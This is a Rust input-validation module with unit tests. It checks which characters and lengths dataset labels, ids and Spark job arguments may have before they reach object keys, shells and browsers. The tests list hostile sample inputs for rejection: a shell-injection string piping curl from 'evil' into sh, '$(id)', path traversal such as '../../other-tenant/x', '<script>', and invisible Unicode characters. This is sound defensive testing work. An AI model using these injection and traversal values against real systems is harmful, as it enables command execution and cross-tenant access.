//! The rules of `decisions` 6 and 7 for texts: which characters and lengths may reach buckets, paths,
//! shells and browsers.
//!
//! *Source*: `orchestrator` takes every text as it is; these rules are ours.

use super::Problem;
use super::text::{is_hidden, quoted};

/// Longest label, user, column, step or job id, in characters.
pub(super) const LONGEST_TEXT: usize = 256;
/// Longest analysis or ingestion id, in characters.
pub(super) const LONGEST_ID: usize = 64;
/// Longest lower-cased data set label, in bytes: object keys end at 1,024 and file names follow the label.
const LONGEST_LABEL_BYTES: usize = 900;

/// Why a text is refused, before it is known where in the document it stands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fault {
    /// Code of the problem.
    pub code: &'static str,
    /// What is wrong, to be read after the name of the member.
    pub reason: String,
}

impl Fault {
    pub(super) fn new(code: &'static str, reason: impl Into<String>) -> Self {
        Self { code, reason: reason.into() }
    }

    /// The problem at a place of the document.
    pub fn at(self, pointer: impl Into<String>, member: &str) -> Problem {
        Problem::new(self.code, pointer, format!("`{member}` {}", self.reason))
    }
}

type Verdict = Result<(), Fault>;

/// Labels and `user`: 1-256 characters of any script, nothing that hides, no `\`, `<`, `>`, no white space at the ends.
pub(super) fn free_text(text: &str) -> Verdict {
    plain_text(text)?;
    if let Some(bad) = text.chars().find(|c| matches!(c, '\\' | '<' | '>')) {
        return Err(Fault::new("charset", format!("may not contain {}", quoted(&bad.to_string()))));
    }
    if text.starts_with(char::is_whitespace) || text.ends_with(char::is_whitespace) {
        return Err(Fault::new("charset", format!("may not begin or end with white space: {}", quoted(text))));
    }
    Ok(())
}

/// Texts that only travel inside JSON: 1-256 characters, nothing that hides.
pub(super) fn plain_text(text: &str) -> Verdict {
    length(text)?;
    match text.chars().find(|c| is_hidden(*c)) {
        None => Ok(()),
        Some(bad) => {
            Err(Fault::new("charset", format!("may not contain the invisible character {}", quoted(&bad.to_string()))))
        }
    }
}

/// Label of a data set: a free text whose `/` separate segments of an object key.
pub(super) fn dataset_label(text: &str) -> Verdict {
    free_text(text)?;
    if text.split('/').any(|segment| matches!(segment, "" | "." | "..")) {
        return Err(Fault::new(
            "charset",
            format!("may not have an empty, `.` or `..` part between slashes: {}", quoted(text)),
        ));
    }
    if text.to_lowercase().len() > LONGEST_LABEL_BYTES {
        return Err(Fault::new(
            "length",
            format!("takes more than {LONGEST_LABEL_BYTES} bytes as part of an object key"),
        ));
    }
    Ok(())
}

/// Label of a visualization: a free text, one literal key of a map.
pub(super) fn chart_label(text: &str) -> Verdict {
    free_text(text)?;
    if text.contains('/') {
        return Err(Fault::new("charset", format!("may not contain a slash: {}", quoted(text))));
    }
    Ok(())
}

/// An argument of a Spark job: it reaches a shell in the known component.
pub(super) fn spark_argument(text: &str) -> Verdict {
    length(text)?;
    let refused =
        |what: &str| Err(Fault::new("spark-arg", format!("cannot be handed to a Spark job: {what}, {}", quoted(text))));
    if text.starts_with('-') {
        return refused("it begins with `-`");
    }
    if let Some(bad) = text.chars().find(|c| !c.is_alphanumeric() && !"_./:,@%+=-".contains(*c)) {
        return refused(&format!("the character {} is not allowed", quoted(&bad.to_string())));
    }
    if text.split('/').any(|segment| segment == "..") {
        return refused("it has a `..` part");
    }
    Ok(())
}

/// Ids and steps: 1 to `longest` of `[A-Za-z0-9._-]`, not `.` or `..`; `code` names a wrong length.
pub(super) fn id_text(text: &str, longest: usize, code: &'static str) -> Verdict {
    if text.is_empty() {
        return Err(Fault::new(code, "is empty"));
    }
    // Bytes count characters here: a character of more than one byte is refused below or is beyond the limit anyway.
    if text.len() > longest && text.chars().count() > longest {
        return Err(Fault::new(code, format!("has more than {longest} characters: {}", quoted(text))));
    }
    if let Some(bad) = text.chars().find(|c| !c.is_ascii_alphanumeric() && !matches!(c, '.' | '_' | '-')) {
        let allowed = "allowed are A-Z a-z 0-9 . _ -";
        return Err(Fault::new("charset", format!("contains {}, {allowed}", quoted(&bad.to_string()))));
    }
    if matches!(text, "." | "..") {
        return Err(Fault::new("charset", format!("may not be {}", quoted(text))));
    }
    Ok(())
}

/// Steps and job ids: [`id_text`] with the common length.
pub(super) fn name_text(text: &str, code: &'static str) -> Verdict {
    id_text(text, LONGEST_TEXT, code)
}

fn length(text: &str) -> Verdict {
    if text.is_empty() {
        return Err(Fault::new("length", "is empty"));
    }
    if text.len() > LONGEST_TEXT && text.chars().count() > LONGEST_TEXT {
        return Err(Fault::new("length", format!("has more than {LONGEST_TEXT} characters: {}", quoted(text))));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn refused(rule: fn(&str) -> Verdict, code: &str, texts: &[&str]) {
        for text in texts {
            assert_eq!(rule(text).map_err(|fault| fault.code), Err(code), "{}", quoted(text));
        }
    }

    #[track_caller]
    fn accepted(rule: fn(&str) -> Verdict, texts: &[&str]) {
        for text in texts {
            assert_eq!(rule(text), Ok(()), "{}", quoted(text));
        }
    }

    #[test]
    fn people_type_free_text() {
        let long = "ά".repeat(256);
        accepted(free_text, &["Ωραία δεδομένα", "my set (2), v1.0!", "🎉 party", "a", &long]);
        refused(free_text, "length", &["", &"x".repeat(257)]);
        refused(
            free_text,
            "charset",
            &[" ", "a ", "\u{a0}a", "a\r\nINFO fake", "a\u{202e}b", "a\u{200b}", "<script>", "a\\b", "a\0"],
        );
    }

    #[test]
    fn dataset_labels_are_clean_paths() {
        accepted(dataset_label, &["a/b c/δ", "a..b", ".hidden"]);
        refused(dataset_label, "charset", &["../../other-tenant/x", "a//b", "/abs", "a/", "a/./b", "..", "."]);
        refused(dataset_label, "length", &[&"🎉".repeat(256)]);
    }

    #[test]
    fn chart_labels_are_literal_keys() {
        accepted(chart_label, &["a.b", "$set", "__proto__", "..", "Χάρτης 1"]);
        refused(chart_label, "charset", &["a/b", "/"]);
    }

    #[test]
    fn spark_arguments_cannot_say_anything_to_a_shell() {
        accepted(spark_argument, &["target", "Στήλη_1", "a.b/c:d,e@f%g+h=i-j", "a..b"]);
        let shell = [
            "x; curl evil|sh",
            "$(id)",
            "`id`",
            "a\nb",
            "a b",
            "--conf",
            "-e",
            "a/../b",
            "..",
            "a'b",
            "a*",
            "~a",
            "!a",
            "{a}",
        ];
        refused(spark_argument, "spark-arg", &shell);
        refused(spark_argument, "length", &["", &"c".repeat(2048)]);
    }

    #[test]
    fn ids_are_plain_names() {
        let id: fn(&str) -> Verdict = |text| id_text(text, LONGEST_ID, "bad-id");
        accepted(id, &["039FF", "a.b_c-d", "1.5", "...", &"x".repeat(64)]);
        refused(id, "bad-id", &["", &"x".repeat(65)]);
        let bad =
            ["../../other", "a/b", ".", "..", "a$b", "a\0", "1&id=2", "1#x", "a b", "../join/5", "\u{212a}1", "é"];
        refused(id, "charset", &bad);
    }
}
